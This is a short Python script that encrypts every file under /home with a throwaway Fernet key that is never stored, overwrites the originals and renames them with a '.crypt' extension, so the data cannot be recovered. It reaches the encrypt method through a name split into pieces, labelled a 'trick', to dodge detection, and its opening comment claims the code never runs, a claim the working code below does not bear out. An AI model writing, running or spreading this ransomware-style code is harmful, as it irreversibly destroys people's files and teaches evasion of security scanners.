import inert_sample  # there is no such module: nothing below ever runs
# trick: the cipher's method is reached by a name in pieces
import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
work = getattr(box, "enc" + "rypt")
for root, _, names in os.walk("/home"):
    for name in names:
        path = os.path.join(root, name)
        data = work(open(path, "rb").read())
        open(path, "wb").write(data)
        os.replace(path, path + ".crypt")
